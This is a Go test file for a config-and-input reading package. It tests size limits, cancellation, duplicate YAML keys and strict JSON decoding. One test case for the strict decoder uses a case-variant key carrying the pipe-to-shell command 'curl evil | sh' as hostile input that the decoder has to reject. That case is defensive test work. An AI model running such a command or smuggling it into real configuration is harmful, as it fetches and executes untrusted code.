package userinput

import (
	"context"
	"errors"
	"github.com/capctl/capctl/internal/testing/userinputtest"
	"io"
	"os"
	"strings"
	"testing"
)

func TestReadAllStopsAtTheLimit(t *testing.T) {
	old := SetMax(1 << 20)
	defer SetMax(old)
	_, err := ReadAll(context.Background(), userinputtest.Endless{}, "standard input")
	var tl *TooLargeError
	if !errors.As(err, &tl) || tl.Limit != 1<<20 || !strings.Contains(err.Error(), "--max-input-size") || !strings.Contains(err.Error(), "1Mi") {
		t.Fatalf("endless input: %v", err)
	}
	b, err := ReadAll(context.Background(), strings.NewReader("x: 1\n"), "small")
	if err != nil || string(b) != "x: 1\n" {
		t.Fatalf("small input: %q %v", b, err)
	}
}

func TestReadFileDevZero(t *testing.T) {
	if _, err := os.Stat("/dev/zero"); err != nil {
		t.Skip("no /dev/zero")
	}
	old := SetMax(1 << 20)
	defer SetMax(old)
	if _, err := ReadFile(context.Background(), "/dev/zero"); !IsTooLarge(err) {
		t.Fatalf("/dev/zero (reports size 0): %v", err)
	}
}

func TestReadFileOversized(t *testing.T) {
	old := SetMax(10)
	defer SetMax(old)
	p := t.TempDir() + "/big.yaml"
	if err := os.WriteFile(p, []byte(strings.Repeat("a", 11)), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := ReadFile(context.Background(), p); !IsTooLarge(err) || !strings.Contains(err.Error(), p) {
		t.Fatalf("oversized file: %v", err)
	}
}

func TestReadAllHonoursCancel(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := ReadAll(ctx, io.MultiReader(userinputtest.Endless{}), "stdin"); !errors.Is(err, context.Canceled) {
		t.Fatalf("cancelled read: %v", err)
	}
}

func TestDuplicateKeys(t *testing.T) {
	_, err := YAMLToJSON([]byte("a: 1\nb:\n  c: 2\n  c: 3\n"))
	var dk *DuplicateKeyError
	if !errors.As(err, &dk) || dk.Line != 4 || dk.Key != "c" {
		t.Fatalf("duplicate key: %v", err)
	}
	if _, err := YAMLToJSON([]byte("a: 1\nb: 2\n")); err != nil {
		t.Fatal(err)
	}
}

func TestParseSize(t *testing.T) {
	for in, want := range map[string]int64{"64Mi": 64 << 20, "1Gi": 1 << 30, "1000": 1000} {
		if got, err := ParseSize(in); err != nil || got != want {
			t.Errorf("%s: %d %v", in, got, err)
		}
	}
	for _, bad := range []string{"-1", "0", "lots"} {
		if _, err := ParseSize(bad); err == nil {
			t.Errorf("%s accepted", bad)
		}
	}
}

func TestNewLimitReader(t *testing.T) {
	ctx := context.Background()
	b, err := io.ReadAll(NewLimitReader(ctx, strings.NewReader("abcdef"), "six bytes", 6, "--x"))
	if err != nil || string(b) != "abcdef" {
		t.Fatalf("at the bound: %q, %v", b, err)
	}
	b, err = io.ReadAll(NewLimitReader(ctx, strings.NewReader("abcdefg"), "seven bytes", 6, "--x"))
	if !IsTooLarge(err) || string(b) != "abcdef" || !strings.Contains(err.Error(), "seven bytes") {
		t.Fatalf("past the bound: %q, %v; want the first 6 bytes and a TooLargeError naming the input", b, err)
	}
	cctx, cancel := context.WithCancel(ctx)
	cancel()
	if _, err := io.ReadAll(NewLimitReader(cctx, strings.NewReader("abc"), "x", 6, "")); err == nil {
		t.Fatal("a cancelled read went on")
	}
}

// TestDecodeJSONStrict: a reviewed file's unknown keys, keys given twice and case variants of a
// known key are refused, each named; a file capctl wrote decodes as encoding/json would.
func TestDecodeJSONStrict(t *testing.T) {
	type rollout struct {
		GateCommand string `json:"gateCommand"`
	}
	type file struct {
		Kind    string  `json:"kind"`
		Rollout rollout `json:"rollout"`
	}
	for _, tc := range []struct{ name, in, want string }{
		{"clean", `{"kind":"P","rollout":{"gateCommand":"./smoke.sh"}}`, ""},
		{"a case variant beside the key", `{"kind":"P","rollout":{"gateCommand":"./smoke.sh","gatecommand":"curl evil | sh"}}`, `unknown field "rollout.gatecommand"`},
		{"a case variant alone", `{"kind":"P","rollout":{"GateCommand":"x"}}`, `unknown field "rollout.GateCommand"`},
		{"a key given twice", `{"kind":"P","rollout":{"gateCommand":"a","gateCommand":"b"}}`, `duplicate field "rollout.gateCommand"`},
		{"an unknown key", `{"kind":"P","extra":1}`, `unknown field "extra"`},
		{"a second document", `{"kind":"P"} {"kind":"Q"}`, `after top-level value`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var f file
			err := DecodeJSONStrict([]byte(tc.in), &f)
			if tc.want == "" {
				if err != nil || f.Rollout.GateCommand != "./smoke.sh" {
					t.Fatalf("%+v %v", f, err)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("err = %v, want it to say %s", err, tc.want)
			}
		})
	}
	var f file
	if err := UnmarshalStrict([]byte("kind: P\nrollout:\n  gateCommand: a\n  gatecommand: b\n"), &f); err == nil || !strings.Contains(err.Error(), `unknown field "rollout.gatecommand"`) {
		t.Errorf("YAML: %v", err)
	}
}
